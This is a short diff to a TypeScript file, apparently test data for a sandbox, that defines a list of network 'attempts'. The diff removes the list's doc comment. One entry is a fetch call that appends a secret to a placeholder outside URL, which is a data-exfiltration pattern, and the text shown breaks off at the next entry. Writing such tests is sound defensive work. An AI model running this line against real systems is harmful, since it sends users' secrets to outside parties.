@@ -1,6 +1,5 @@
 import type { Attempt } from './attempt.ts'
 
-/** Attempts to load, request or send. */
 export const LOADS: readonly Attempt[] = [
   { name: 'fetch', js: `await fetch('http://OUT/?' + secret)` },
   {
